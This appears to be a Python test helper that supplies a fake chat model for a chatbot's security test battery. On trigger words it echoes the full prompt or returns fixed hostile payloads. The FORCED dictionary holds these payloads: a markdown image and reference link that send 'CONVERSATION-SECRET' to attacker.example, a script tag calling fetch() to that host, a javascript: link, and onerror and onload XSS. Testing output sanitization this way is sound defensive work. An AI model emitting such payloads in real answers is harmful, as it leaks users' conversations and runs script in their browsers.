"""Deterministic stand-ins for the LLM used by the security battery (guide section 5).

* **echo-prompt**: when the question contains ``ECHO``, the answer is the full prompt the model
  received (system + human messages). Leaks, mis-delimited context and profile bleed become
  plain strings in the answer.
* **forced-output**: when the question contains ``FORCE:<name>``, the answer is a fixed hostile
  payload (markdown image exfiltration, raw HTML, script), independent of the sources.
* otherwise the project's extractive fake answers (quotes source [1]).
* ``slow_tokens_s`` makes every answer stream slowly (kill-during-chat tests).
"""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from typing import Any

from langchain_core.callbacks import CallbackManagerForLLMRun
from langchain_core.messages import AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGenerationChunk

from chatbot.fakes import ExtractiveFakeChatModel

ECHO = "ECHO"
EXFIL_URL = "https://attacker.example/collect"
FORCED = {
    "image": f"Here you go ![logo]({EXFIL_URL}?q=CONVERSATION-SECRET) [1]",
    "html": f'<img src="{EXFIL_URL}?q=1" onerror="alert(1)"><script>fetch("{EXFIL_URL}")</script> [1]',
    "link": f"[click me](javascript:alert(1)) and [ok]({EXFIL_URL}) [1]",
    "reference": f"![x][r]\n\n[r]: {EXFIL_URL}?q=ref [1]",
    "iframe": f'<iframe src="{EXFIL_URL}"></iframe><svg onload=alert(1)> [1]',
}


def render_prompt(messages: list[BaseMessage]) -> str:
    """The prompt as one string with role headers (what the echo model returns)."""
    return "\n".join(f"<<{m.type.upper()}>>\n{m.content}" for m in messages)


def question_of(messages: list[BaseMessage]) -> str:
    text = str(messages[-1].content) if messages else ""
    found = re.findall(r"^Question: (.*)$", text, re.M)
    return found[-1] if found else text


class BatteryFakeChatModel(ExtractiveFakeChatModel):
    """Extractive by default; echo-prompt or forced-output when the question asks for it."""

    slow_tokens_s: float = 0.0

    @property
    def _llm_type(self) -> str:
        return "fake-battery"

    def _reply(self, messages: list[BaseMessage]) -> str:
        question = question_of(messages)
        if ECHO in question:
            return render_prompt(messages)
        forced = re.search(r"FORCE:(\w+)", question)
        if forced and forced.group(1) in FORCED:
            return FORCED[forced.group(1)]
        return super()._reply(messages)

    def _stream(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> Iterator[ChatGenerationChunk]:
        for piece in re.findall(r"\S+\s*|\s+", self._reply(messages)):
            if self.slow_tokens_s:
                time.sleep(self.slow_tokens_s)
            yield ChatGenerationChunk(message=AIMessageChunk(content=piece))


def install(container: Any, *, slow_tokens_s: float = 0.0) -> BatteryFakeChatModel:
    """Put the battery model into a container before its pipeline is built."""
    assert "pipeline" not in container.__dict__, "install the fake before the pipeline is built"
    model = BatteryFakeChatModel(slow_tokens_s=slow_tokens_s)
    container.__dict__["chat_model"] = model
    return model
